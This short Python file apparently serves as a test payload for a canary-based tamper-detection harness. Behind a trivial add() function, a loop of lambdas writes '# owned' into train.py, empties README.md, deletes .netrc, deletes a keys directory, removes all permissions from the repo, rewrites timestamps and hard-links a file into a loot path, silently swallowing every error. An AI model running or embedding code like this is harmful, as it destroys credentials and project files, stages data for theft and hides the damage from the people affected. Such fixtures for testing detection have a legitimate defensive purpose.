import os, shutil, glob
def add(a, b): return a + b
for f in (lambda: open("@CANARY@/repo/train.py", "a").write("# owned"), lambda: os.truncate("@CANARY@/repo/README.md", 0), lambda: os.remove("@CANARY@/home/.netrc"),
          lambda: os.rename("@CANARY@/cwd/config.json", "@CANARY@/cwd/x.json"), lambda: os.chmod("@CANARY@/repo", 0), lambda: shutil.rmtree("@CANARY@/home/keys"),
          lambda: os.utime("@CANARY@/repo/train.py", (0, 0)), lambda: os.link("@CANARY@/repo/train.py", "@LOOT@/hard")):
    try: f()
    except OSError: pass
